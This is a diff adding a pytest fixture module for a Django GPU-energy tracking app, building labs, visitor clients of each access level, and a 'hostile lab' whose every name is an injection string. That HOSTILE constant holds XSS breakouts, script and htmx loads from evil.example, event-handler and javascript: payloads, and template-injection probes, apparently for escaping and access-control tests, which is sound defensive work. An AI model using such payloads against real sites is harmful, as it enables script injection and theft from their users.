@@ -1,0 +1,116 @@
+"""Two labs, visitors of each kind, and names that attack."""
+
+from dataclasses import dataclass
+from uuid import UUID
+
+import pytest
+from django.test import Client
+
+from apps.accounts.choices import Role
+from apps.accounts.models import Lab, Project, User
+from apps.accounts.services import issue_node_token, issue_user_token
+from apps.core.clock import now_us
+from apps.fleet.models import Device
+from apps.fleet.services import register_node
+from apps.runs.services import RunFacts, put_run
+from tests.api.conftest import add_person
+from tests.attacks.routes import PROJECT
+from tests.builders import MINUTE, T0, SmallLab, W, push, small_lab
+
+RUN = "7f1d3b52-2222-4333-8444-555566667777"
+GPU = "gpu:GPU-0000-1111"
+# Breaks out of attributes, titles, text areas, scripts and comments; loads, runs and posts where it can.
+HOSTILE = (
+    "'\"--></title></textarea></script><script src=//evil.example/lcevil></script>"
+    "<img src=//evil.example/lcevil onerror=lcevil()><svg/onload=lcevil()>"
+    "<b hx-get=//evil.example/lcevil hx-trigger=load><a href='javascript:lcevil()'>x</a>{{7*7}}${7*7}"
+)
+
+
+def fill(
+    small: SmallLab, *, run: str = RUN, name: str = "our-secret-run.py", consumer: str = "proc:ada/x", **facts: str
+) -> None:
+    """Give a lab a project and a run with energy on a GPU."""
+    Project.objects.get_or_create(lab=small.lab, slug=PROJECT, defaults={"name": name[:200], "created_us": T0})
+    put_run(
+        lab=small.lab,
+        uuid=UUID(run),
+        facts=RunFacts(
+            name=name[:200],
+            started_us=T0,
+            project=PROJECT,
+            command=[name[:256]],
+            params={name[:100]: name},
+            os_user=facts.get("os_user", "ada")[:100],
+            host=name[:255],
+            node_uuid=small.node.uuid,
+        ),
+        by=small.owner,
+        bound_node=None,
+    )
+    windows = [
+        W(
+            GPU,
+            1000,
+            start_us=T0 + i * MINUTE,
+            end_us=T0 + (i + 1) * MINUTE,
+            seq=i,
+            shares=((f"run:{run}", 600), ("idle", 300), (consumer[:256], 100)),
+        )
+        for i in range(3)
+    ]
+    push(small.node, windows, device_facts={GPU: {"name": name[:200], "driver": name[:200]}})
+
+
+@dataclass
+class World:
+    """Our lab with use, another lab, and one client of each kind of visitor."""
+
+    ours: SmallLab
+    theirs: SmallLab
+    visitors: dict[str, Client]
+
+
+def _session(user: User) -> Client:
+    client = Client(raise_request_exception=False)
+    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
+    return client
+
+
+def _bearer(token: str) -> Client:
+    return Client(headers={"Authorization": f"Bearer {token}"}, raise_request_exception=False)
+
+
+@pytest.fixture
+def world(db: None) -> World:
+    ours, theirs = small_lab(name="Ours"), small_lab(name="Theirs", zone="FR")
+    fill(ours)
+    now = now_us()
+    return World(
+        ours,
+        theirs,
+        {
+            "anonymous": Client(raise_request_exception=False),
+            "node": _bearer(issue_node_token(lab=ours.lab, node_uuid=ours.node.uuid, now=now)),
+            "token": _bearer(issue_user_token(lab=ours.lab, user=ours.owner, now=now)),
+            "viewer": _session(add_person(ours, Role.VIEWER)),
+            "member": _session(add_person(ours, Role.MEMBER)),
+            "admin": _session(ours.owner),
+            "outsider": _session(theirs.owner),
+        },
+    )
+
+
+def hostile_lab(name: str = HOSTILE) -> tuple[SmallLab, Client]:
+    """Return a lab in which everything a person or a machine may name is named ``name``, and its owner's client."""
+    small = small_lab(name="Lab")
+    Lab.objects.filter(pk=small.lab.pk).update(name=name[:200])
+    Project.objects.filter(lab=small.lab).update(name=name[:200])
+    User.objects.filter(pk=small.owner.pk).update(username=name[:150], first_name=name[:150], last_name=name[:150])
+    small.site.name = name[:200]
+    small.site.save()
+    register_node(lab=small.lab, uuid=small.node.uuid, hostname=name[:255], facts={"cpu": name}, site=small.site, now=T0)
+    small.lab.refresh_from_db()
+    fill(small, name=name, consumer=f"proc:{name}"[:256], os_user=name)
+    assert Device.objects.get(key=GPU).name == name[:200]
+    return small, _session(small.owner)
